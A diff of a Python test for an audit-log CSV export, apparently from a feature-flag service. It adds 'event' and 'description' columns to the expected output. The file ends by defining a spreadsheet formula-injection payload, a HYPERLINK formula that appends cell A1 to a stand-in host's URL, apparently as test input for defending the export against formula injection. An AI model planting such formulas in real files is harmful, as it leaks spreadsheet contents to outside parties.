@@ -245,7 +245,7 @@ def test_csv_export_streams_the_filtered_entries(client, login, admin, project, 
     rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
     assert list(rows[0]) == ["id", "created_at", "actor", "event_type", "environment",
                              "object_type", "object_id", "object_label", "message", "before",
-                             "after"]
+                             "after", "event", "description"]
     assert [r["message"] for r in rows] == ["dark_mode on in Production",
                                             "dark_mode on in Development",
                                             "dark_mode added to Rollout"]
@@ -255,6 +255,9 @@ def test_csv_export_streams_the_filtered_entries(client, login, admin, project, 
     assert prod["event_type"] == "FEATURE_STATE_UPDATED_BY_RELEASE_PIPELINE"
     assert prod["before"] == '{"enabled": false}' and prod["after"] == '{"enabled": true}'
     assert prod["created_at"].startswith("2025-03-03T12:00:00")
+    # The page's words: the event's label and the sentence with names.
+    assert prod["event"] == "Flag changed by a pipeline"
+    assert prod["description"] == "dark_mode enabled for everyone in Production by pipeline Rollout"
 
 
 FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
